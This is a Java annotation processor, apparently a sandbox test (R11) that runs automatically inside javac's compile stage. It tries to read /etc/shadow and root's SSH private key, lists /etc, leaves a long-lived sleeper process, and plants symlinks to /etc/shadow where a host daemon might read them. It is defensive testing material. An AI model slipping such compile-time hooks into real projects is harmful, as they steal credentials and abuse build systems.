// R11 (and F07 at compile time): an annotation processor.  javac finds it
// on its class path, the job's workspace, and runs it inside the compile
// stage: it reads host files, leaves a sleeper behind, and plants
// symlinks and FIFOs where a daemon might look.  Reports through the
// compiler's output as "NOTE: WHAT: OUTCOME" lines.
import java.nio.file.*;
import java.util.Set;
import javax.annotation.processing.*;
import javax.lang.model.SourceVersion;
import javax.lang.model.element.TypeElement;
import javax.tools.Diagnostic;

@SupportedAnnotationTypes("*")
public class R11Proc extends AbstractProcessor {
	private boolean done;

	@Override
	public SourceVersion getSupportedSourceVersion() {
		return SourceVersion.latestSupported();
	}

	private void say(String what, String outcome) {
		processingEnv.getMessager().printMessage(Diagnostic.Kind.NOTE, what + ": " + outcome);
	}

	private void read(String path) {
		try {
			Files.readAllBytes(Paths.get(path));
			say("read " + path, "OK");
		} catch (Exception e) {
			say("read " + path, e.getClass().getSimpleName());
		}
	}

	@Override
	public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment env) {
		if (done)
			return false;
		done = true;
		say("processor", "running");
		read("/etc/shadow");
		read("/root/.ssh/id_rsa");
		read("/etc/passwd");
		try {
			StringBuilder sb = new StringBuilder();
			try (DirectoryStream<Path> d = Files.newDirectoryStream(Paths.get("/etc"))) {
				for (Path p : d)
					sb.append(p.getFileName()).append(' ');
			}
			say("list /etc", sb.toString().trim());
		} catch (Exception e) {
			say("list /etc", e.getClass().getSimpleName());
		}
		try {
			new ProcessBuilder("/usr/bin/sleep", "1000").start();
			say("spawn sleeper", "OK");
		} catch (Exception e) {
			say("spawn sleeper", e.getClass().getSimpleName());
		}
		String[] traps = { "/work/.cylo-exe", "/work/.cylo", "/work/R11.java.result.json",
				   "/work/R11.java.stdout" };
		for (String t : traps) {
			try {
				Files.createSymbolicLink(Paths.get(t), Paths.get("/etc/shadow"));
				say("symlink " + t, "OK");
			} catch (Exception e) {
				say("symlink " + t, e.getClass().getSimpleName());
			}
		}
		return false;
	}
}
